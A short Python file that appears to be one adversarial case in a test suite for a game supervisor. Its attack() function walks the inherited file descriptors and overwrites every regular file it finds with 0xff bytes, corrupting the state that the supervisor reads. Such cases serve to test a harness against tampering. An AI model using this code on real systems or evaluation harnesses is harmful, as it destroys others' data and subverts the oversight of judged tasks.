"""Moves to the far end of the memory it hands its state over in, whose offset the supervisor shares, and fills it."""

FULL = "answers", "sealed segments"
JUDGED = "game"
ALONE = "it may write into that memory as it likes: what is attacked is whoever reads it"


def attack():
    import stat

    for fd in range(4, 64):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                os.lseek(fd, 2**62, os.SEEK_SET)
                os.pwrite(fd, b"\xff" * 65536, 0)
        except OSError:
            continue
